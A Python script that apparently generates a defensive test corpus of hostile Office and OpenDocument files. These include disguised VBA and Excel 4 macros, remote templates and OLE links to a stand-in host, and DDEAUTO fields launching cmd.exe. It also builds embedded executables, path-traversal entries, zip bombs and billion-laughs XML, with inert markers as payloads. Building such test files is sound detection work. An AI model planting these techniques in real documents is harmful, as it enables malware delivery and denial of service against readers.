"""Hostile Office and OpenDocument files: real documents of LibreOffice, python-docx and XlsxWriter, with what makes them so."""
import gzip
import io
import os
import pathlib
import struct
import subprocess
import zipfile
import zlib

import docx
import xlsxwriter

from record import WORK, keep

os.chdir(WORK)
DOCX, XLSX, ODT, ODS = ((WORK / f"libreoffice-source.{kind}").read_bytes() for kind in ("docx", "xlsx", "odt", "ods"))
VBA = pathlib.Path("/usr/share/doc/python3-xlsxwriter/examples/vbaProject.bin").read_bytes()
ON = "LibreOffice, parts added with Python's zipfile"
WRITER = f"XlsxWriter {xlsxwriter.__version__}"
STAMP = (2026, 1, 15, 10, 0, 0)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def change(archive, parts=None, edits=None, without=()):
    """The archive with parts added, and parts edited: name → function of its bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(out, "w") as made:
        for info in source.infolist():
            if info.filename in without or info.filename in (parts or {}):
                continue
            content = source.read(info.filename)
            if edits and info.filename in edits:
                content = edits[info.filename](content)
            entry = zipfile.ZipInfo(info.filename, STAMP)
            entry.compress_type = info.compress_type
            made.writestr(entry, content)
        for name, content in (parts or {}).items():
            entry = zipfile.ZipInfo(name, STAMP)
            entry.compress_type = zipfile.ZIP_DEFLATED
            made.writestr(entry, content)
    return out.getvalue()


def before(end, more):
    return lambda content: content.replace(end, more.encode() + end, 1)


def replace(old, new):
    return lambda content: content.replace(old, new, 1)


TYPES = "[Content_Types].xml"
DOC_RELS = "word/_rels/document.xml.rels"
END = b"</Relationships>"


def relation(type_, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return before(END, f'<Relationship Id="rIdX" Type="{type_}" Target="{target}"{mode}/>')


def hostile(group, name, what, expected, content, program=ON, uploaded=None):
    keep("hostile", group, name, program, what, expected, content, uploaded)


# --- VBA, by its makers
book = xlsxwriter.Workbook("out.xlsm")
book.add_worksheet().write(0, 0, "Prix")
book.add_vba_project("/usr/share/doc/python3-xlsxwriter/examples/vbaProject.bin")
book.close()
XLSM = (WORK / "out.xlsm").read_bytes()
hostile("macros", "xlsxwriter.xlsm", "workbook with VBA", "macros", XLSM, WRITER)
hostile("macros", "xlsxwriter-renomme.xlsx", "workbook with VBA, renamed", "macros", XLSM, WRITER)
MACRO_MAIN = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN_MAIN = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
hostile("macros", "type-ordinaire.xlsx", "workbook with VBA whose content type says an ordinary workbook", "macros", change(XLSM, edits={TYPES: replace(MACRO_MAIN, PLAIN_MAIN)}))
RELS = "xl/_rels/workbook.xml.rels"
hostile("macros", "vba-autre-nom.xlsx", "the VBA project is named printerSettings1.bin", "macros",
        change(XLSM, {"xl/printerSettings1.bin": VBA}, {TYPES: lambda c: c.replace(MACRO_MAIN, PLAIN_MAIN).replace(b"/xl/vbaProject.bin", b"/xl/printerSettings1.bin"), RELS: replace(b"vbaProject.bin", b"printerSettings1.bin")}, ["xl/vbaProject.bin"]))
hostile("macros", "vba-type-absent.xlsx", "the VBA project has no content type of its own, only its relationship", "macros",
        change(XLSM, {"xl/donnees.bin": VBA}, {TYPES: lambda c: c.replace(MACRO_MAIN, PLAIN_MAIN).replace(b"application/vnd.ms-office.vbaProject", b"application/octet-stream"), RELS: replace(b"vbaProject.bin", b"donnees.bin")}, ["xl/vbaProject.bin"]))
hostile("macros", "vba-relation-absente.xlsx", "the VBA project is there under another name, no relationship or type names it", "macros,attachments",
        change(XLSX, {"xl/media/image9.bin": VBA}))
hostile("macros", "vba-casse.xlsx", "names in other letters: XL/VBAPROJECT.BIN", "macros", change(XLSX, {"XL/VBAPROJECT.BIN": VBA}))
hostile("macros", "vba.docx", "a docm renamed docx", "macros",
        change(DOCX, {"word/vbaProject.bin": VBA}, {DOC_RELS: relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False), TYPES: lambda c: c.replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main").replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')}))
hostile("macros", "vba-relation-en-codes.docx", "the relationship's type is written with character references", "macros",
        change(DOCX, {"word/x.bin": VBA}, {DOC_RELS: relation("http://schemas.microsoft.com/office/2006/relationships/&#118;ba&#x50;roject", "x.bin", False), TYPES: before(b"</Types>", '<Default Extension="bin" ContentType="application/octet-stream"/>')}))
hostile("macros", "vba-type-en-codes.docx", "the content type is written with character references", "macros",
        change(DOCX, {"word/x.bin": VBA}, {TYPES: before(b"</Types>", '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>')}))
hostile("macros", "macro-excel-4.xlsx", "an Excel 4 macro sheet", "macros",
        change(XLSX, {"xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'}, {RELS: relation("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False), TYPES: before(b"</Types>", '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>')}))
hostile("macros", "macro-excel-4-autre-nom.xlsx", "an Excel 4 macro sheet under the name of a sheet", "macros",
        change(XLSX, {"xl/worksheets/sheet9.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'}, {RELS: relation("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "worksheets/sheet9.xml", False), TYPES: before(b"</Types>", '<Override PartName="/xl/worksheets/sheet9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>')}))
hostile("macros", "classeur-embarque.docx", "a document that carries a workbook with VBA", "macros",
        change(DOCX, {"word/embeddings/Classeur1.xlsx": XLSM}, {DOC_RELS: relation(f"{RELATIONS}/package", "embeddings/Classeur1.xlsx", False)}))

# --- what is fetched by itself
hostile("loads", "modele-externe.docx", "a template of another computer (attachedTemplate)", "loads",
        change(DOCX, {"word/_rels/settings.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="https://serveur.exemple/modele.dotm" TargetMode="External"/></Relationships>'},
               {"word/settings.xml": before(b"</w:settings>", f'<w:attachedTemplate xmlns:r="{RELATIONS}" r:id="r1"/>')}))
for name, target in [("ole-lie.docx", "https://serveur.exemple/x.docx"), ("ole-lie-unc.docx", "file:///\\\\serveur.exemple\\partage\\x.docx"), ("ole-lie-mhtml.docx", "mhtml:https://serveur.exemple/x.html!x-usc:https://serveur.exemple/x.html")]:
    hostile("loads", name, f"an OLE object linked to {target[:8]}…", "loads", change(DOCX, edits={DOC_RELS: relation(f"{RELATIONS}/oleObject", target)}))
hostile("loads", "image-unc.docx", "a picture of a network share", "loads", change(DOCX, edits={DOC_RELS: relation(f"{RELATIONS}/image", "file://serveur.exemple/partage/x.png")}))
hostile("loads", "image-http.docx", "a picture of a web address", "loads", change(DOCX, edits={DOC_RELS: relation(f"{RELATIONS}/image", "http://serveur.exemple/x.png")}))
hostile("loads", "cadre.docx", "a frame of a web address", "loads", change(DOCX, edits={DOC_RELS: relation(f"{RELATIONS}/frame", "http://serveur.exemple/x.html")}))
hostile("loads", "sous-document.docx", "a sub-document of a web address", "loads", change(DOCX, edits={DOC_RELS: relation(f"{RELATIONS}/subDocument", "http://serveur.exemple/x.docx")}))
hostile("loads", "casse.docx", "TargetMode in other letters, the relationship after a comment", "loads",
        change(DOCX, edits={DOC_RELS: before(END, f"<!-- > --><Relationship\n Target = 'https://serveur.exemple/modele.dotm'\n TargetMode='External' Id='rIdY' Type='{RELATIONS}/attachedTemplate'></Relationship>")}))
hostile("loads", "prefixe.docx", "relationships with a namespace prefix", "loads",
        change(DOCX, edits={DOC_RELS: before(END, f'<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" Id="rIdY" Type="{RELATIONS}/oleObject" Target="https://serveur.exemple/x.docx" TargetMode="External"/>')}))
hostile("loads", "utf-16.docx", "relationships in UTF-16", "loads",
        change(DOCX, edits={DOC_RELS: lambda c: b"\xff\xfe" + relation(f"{RELATIONS}/oleObject", "https://serveur.exemple/x.docx")(c).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")}))
hostile("loads", "altchunk.docx", "another format imported on opening (altChunk)", "loads,attachments,markup",
        change(DOCX, {"word/afchunk.mht": "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html>MARQUEUR</html>"}, {DOC_RELS: relation(f"{RELATIONS}/aFChunk", "afchunk.mht", False), TYPES: before(b"</Types>", '<Default Extension="mht" ContentType="message/rfc822"/>'), "word/document.xml": before(b"</w:body>", f'<w:altChunk xmlns:r="{RELATIONS}" r:id="rIdX"/>')}))
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
RUN = '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
BODY = b"<w:sectPr"
for name, runs, what in [
    ("ddeauto.docx", [' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k MARQUEUR" '], "a DDEAUTO field"),
    ("dde.docx", [' DDE excel "x" '], "a DDE field"),
    ("ddeauto-coupe.docx", [" DD", "EAU", 'TO cmd "/k MARQUEUR" '], "a DDEAUTO field cut into runs"),
    ("ddeauto-codes.docx", [' &#68;DEAU&#84;O cmd "/k MARQUEUR" '], "a DDEAUTO field in character references"),
    ("quote-imbrique.docx", [' IF "1" = "1" "x" '], None),
]:
    if what:
        hostile("formula", name, what, "formula,loads,macros", change(DOCX, edits={"word/document.xml": before(BODY, FIELD % "".join(RUN % run for run in runs))}))
hostile("formula", "fldsimple.docx", "a DDEAUTO field, short form", "formula,loads", change(DOCX, edits={"word/document.xml": before(BODY, '<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/k MARQUEUR&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')}))
hostile("loads", "includepicture.docx", "an INCLUDEPICTURE field of a web address", "loads", change(DOCX, edits={"word/document.xml": before(BODY, FIELD % (RUN % ' INCLUDEPICTURE "https://serveur.exemple/x.png" \\d '))}))
hostile("formula", "lien-dde.xlsx", "a DDE link", "formula,loads,macros",
        change(XLSX, {"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c MARQUEUR"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'},
               {RELS: relation(f"{RELATIONS}/externalLink", "externalLinks/externalLink1.xml", False), TYPES: before(b"</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>')}))

# --- files inside
PE = (WORK / "marqueur.exe").read_bytes() if (WORK / "marqueur.exe").exists() else b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 200
hostile("carried", "programme.docx", "a program under the name of a picture", "program,attachments", change(DOCX, {"word/media/image9.png": PE}))
hostile("carried", "programme-nomme.docx", "a program among the parts", "program,attachments", change(DOCX, {"word/embeddings/outil.exe": b"MARQUEUR"}))
hostile("carried", "script-nomme.docx", "a script among the parts", "program,attachments,script", change(DOCX, {"word/embeddings/outil.vbs": b"MARQUEUR"}))
hostile("carried", "programme.odt", "a program under the name of a picture", "program,attachments", change(ODT, {"Pictures/image9.png": PE}))


def package(name, content):
    """An OLE package ([MS-OLEDS] 2.3.6), as Word writes it when a file is dropped into a document: by hand, no program here makes one."""
    native = struct.pack("<H", 2) + name + b"\0C:\\" + name + b"\0" + struct.pack("<HHI", 0, 3, len(name) + 4) + b"C:\\" + name + b"\0" + struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(native)) + native


def compound(streams):
    """A compound file ([MS-CFB]) of small streams, each in sectors of its own of 512 bytes."""
    names = ["Root Entry", *streams]
    sectors, starts, chain = [], [], []
    for content in streams.values():
        content = content.ljust(4096, b"\0")
        content += b"\0" * (-len(content) % 512)
        starts.append(len(sectors))
        count = len(content) // 512
        chain += [len(sectors) + rank + 1 for rank in range(count - 1)] + [0xFFFFFFFE]
        sectors += [content[at * 512 : at * 512 + 512] for at in range(count)]
    directory = b""
    for rank, name in enumerate(names):
        raw = name.encode("utf-16-le") + b"\0\0"
        content = list(streams.values())[rank - 1] if rank else b""
        directory += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), 5 if rank == 0 else 2, 1) + struct.pack("<III", 0xFFFFFFFF, rank + 1 if 0 < rank < len(names) - 1 else 0xFFFFFFFF, 1 if rank == 0 else 0xFFFFFFFF)
        directory += b"\0" * 36 + struct.pack("<IQ", starts[rank - 1] if rank else 0xFFFFFFFE, max(4096, len(content)) if rank else 0)
    directory += b"\0" * (-len(directory) % 512)
    at = len(sectors)
    count = len(directory) // 512
    chain += [at + rank + 1 for rank in range(count - 1)] + [0xFFFFFFFE]
    sectors += [directory[k * 512 : k * 512 + 512] for k in range(count)]
    fat_sectors = -(-(len(chain) + 8) // 128)
    chain += [0xFFFFFFFD] * fat_sectors
    fat_at = len(sectors)
    table = b"".join(struct.pack("<I", one) for one in chain).ljust(fat_sectors * 512, b"\xff")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, at, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += b"".join(struct.pack("<I", fat_at + k) for k in range(fat_sectors)).ljust(436, b"\xff")
    return head + b"".join(sectors) + table


OLE = compound({"\1Ole10Native": package(b"outil.exe", PE)})
ole_relation = {DOC_RELS: relation(f"{RELATIONS}/oleObject", "embeddings/oleObject1.bin", False), TYPES: before(b"</Types>", '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')}
hostile("carried", "paquet-exe.docx", "an OLE package that holds a program", "program,attachments", change(DOCX, {"word/embeddings/oleObject1.bin": OLE}, ole_relation))
hostile("carried", "paquet-bat.docx", "an OLE package that holds a script", "program,attachments,script", change(DOCX, {"word/embeddings/oleObject1.bin": compound({"\1Ole10Native": package(b"outil.bat", b"@echo off\r\nrem MARQUEUR\r\n")})}, ole_relation))
hostile("carried", "paquet-renomme.docx", "the same under the name of a picture", "program,attachments", change(DOCX, {"word/media/image9.wmf": OLE}))
hostile("carried", "paquet-casse.docx", "the stream's name in other letters", "program,attachments", change(DOCX, {"word/embeddings/oleObject1.bin": compound({"\1OLE10NATIVE": package(b"outil.exe", PE)})}, ole_relation))
hostile("carried", "paquet.xlsx", "an OLE package in a workbook", "program,attachments", change(XLSX, {"xl/embeddings/oleObject1.bin": OLE}, {TYPES: ole_relation[TYPES]}))
hostile("carried", "paquet.odt", "an OLE package in an OpenDocument text", "program,attachments", change(ODT, {"Object 1": OLE}))

# --- OpenDocument
SCRIPT = "MARQUEUR = 1\n"
hostile("macros", "python.ods", "a Python script", "macros", change(ODS, {"Scripts/python/outil.py": SCRIPT}))
hostile("macros", "javascript.odt", "a JavaScript macro", "macros,program", change(ODT, {"Scripts/javascript/Outils/outil.js": "// MARQUEUR\n", "Scripts/javascript/Outils/parcel-descriptor.xml": "<parcel/>"}))
hostile("macros", "basic-casse.odt", "Basic under another name, which its library names", "macros", change(ODT, {"Basic/script-lc.xml": '<library:libraries xmlns:library="http://openoffice.org/2000/library"><library:library library:name="Outils" library:link="false"/></library:libraries>', "Basic/Outils/Module1.xml": '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main\nEnd Sub</script:module>'}))
EVENT = '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:outil.py$main?language=Python&amp;location=user" xlink:type="simple"/></office:event-listeners></office:scripts>'
hostile("macros", "evenement.odt", "an event that runs a script of the reader's program on opening", "macros,loads", change(ODT, edits={"content.xml": lambda c: c.replace(b"<office:scripts/>", EVENT.encode(), 1)}))
hostile("loads", "ole-externe.odt", "an object of a web address, drawn on opening", "loads", change(ODT, edits={"content.xml": before(b"</office:text>", '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:object xlink:href="https://serveur.exemple/x.ods" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')}))
hostile("loads", "image-unc.odt", "a picture of a network share", "loads", change(ODT, edits={"content.xml": before(b"</office:text>", '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:href="file://serveur.exemple/partage/x.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')}))

# --- archives that lie
hostile("archive-lies", "remonte.docx", "an entry that leaves the folder", "damaged,archive,program,two_in_one", change(DOCX, {"../../outil.txt": "MARQUEUR"}))
# Some programs write such a name for every part; nothing unpacks a document.
hostile("archive-lies", "absolu.docx", "an entry with an absolute path", "damaged,archive,program,two_in_one,harmless:docx", change(DOCX, {"/etc/outil": "MARQUEUR"}))
hostile("archive-lies", "remonte-windows.docx", "an entry that leaves the folder, as Windows writes it", "damaged,archive,program,two_in_one", change(DOCX, {"..\\..\\outil.txt": "MARQUEUR"}))
hostile("archive-lies", "etranger.docx", "a document that carries a folder of its own, with programs", "program,archive,attachments", change(DOCX, {"bonus/outil.bat": "@echo off\r\n"}))
twice = io.BytesIO()
with zipfile.ZipFile(io.BytesIO(DOCX)) as source, zipfile.ZipFile(twice, "w") as made:
    for info in source.infolist():
        made.writestr(zipfile.ZipInfo(info.filename, STAMP), source.read(info.filename))
    import warnings

    warnings.simplefilter("ignore")
    made.writestr(zipfile.ZipInfo(DOC_RELS, STAMP), relation(f"{RELATIONS}/attachedTemplate", "https://serveur.exemple/m.dotm")(zipfile.ZipFile(io.BytesIO(DOCX)).read(DOC_RELS)))
hostile("archive-lies", "deux-fois.docx", "the same part twice, of which one is hostile", "damaged,loads,two_in_one", twice.getvalue())
big = b"\0" * 60_000_000
hostile("bombs", "mille-fois.docx", "unpacks a thousand times", "bomb,too_complex", change(DOCX, {"word/media/image9.bmp": big}))
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
    made.writestr(zipfile.ZipInfo("x", STAMP), big[:10_000_000])
nested = inner.getvalue()
for _ in range(3):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
        for rank in range(8):
            info = zipfile.ZipInfo(f"{rank}.zip", STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            made.writestr(info, nested)
    nested = inner.getvalue()
hostile("bombs", "imbriquee.docx", "archives in archives", "bomb,archive,attachments,too_complex", change(DOCX, {"word/embeddings/x.zip": nested}))
announced = bytearray(change(DOCX, {"word/x.xml": b"a" * 1000}))
at = announced.rindex(b"word/x.xml") - 46
announced[at + 24 : at + 28] = struct.pack("<I", 4_000_000_000)
hostile("bombs", "annonce.docx", "announces four gigabytes", "bomb,damaged", bytes(announced))


def overlapping(copies):
    """One packed kernel that many entries name (as the bombs of 2019): by hand, no program writes it."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(b"\0" * 3_000_000) + packer.flush()
    base = bytearray(DOCX)
    end = base.rindex(b"PK\5\6")
    size, offset = struct.unpack("<II", base[end + 12 : end + 20])
    count = struct.unpack("<H", base[end + 10 : end + 12])[0]
    directory = bytes(base[offset : offset + size])
    body = bytes(base[:offset])
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5C2F, zlib.crc32(b"\0" * 3_000_000), len(kernel), 3_000_000, 1, 0) + b"k"
    where = len(body)
    body += head + kernel
    for rank in range(copies):
        name = b"word/k%d" % rank
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5C2F, zlib.crc32(b"\0" * 3_000_000), len(kernel), 3_000_000, len(name), 0, 0, 0, 0, 0, where) + name
    return body + directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count + copies, count + copies, len(directory), len(body), 0)


hostile("bombs", "chevauchement.docx", "a hundred and fifty entries over the same bytes", "bomb,damaged,two_in_one", overlapping(150), "bytes by hand: no program writes it")
quine = bytes.fromhex("504b03041400000008000860eb3e")  # the head only of such a file: it is no document
hostile("bombs", "entites.docx", "entities that grow (a billion laughs)", "damaged,bomb,markup,too_complex,two_in_one",
        change(DOCX, edits={"word/_rels/document.xml.rels": lambda c: b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)) + b"]><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>&j;</Relationships>"}))

# --- Excel 97 with macros, by what its records say
xls = bytearray((WORK / "libreoffice-source.xls").read_bytes())
sheet_at = xls.index(b"\x85\0")
while struct.unpack("<H", xls[sheet_at + 2 : sheet_at + 4])[0] > 60:
    sheet_at = xls.index(b"\x85\0", sheet_at + 1)
xls[sheet_at + 9] = 1
hostile("macros", "feuille-macro.xls", "an Excel 4 macro sheet: the kind of LibreOffice's sheet, changed", "macros", bytes(xls))
for name, streams in {
    "vba-2003.doc": {"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 400, "_VBA_PROJECT": b"\xcc\x61"},
    "paquet.doc": {"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 400, "\1Ole10Native": package(b"outil.exe", PE)},
}.items():
    hostile("macros" if "vba" in name else "carried", name, "a Word 97 document", "macros" if "vba" in name else "attachments,program", compound(streams), "bytes by hand: no program of Debian writes it")
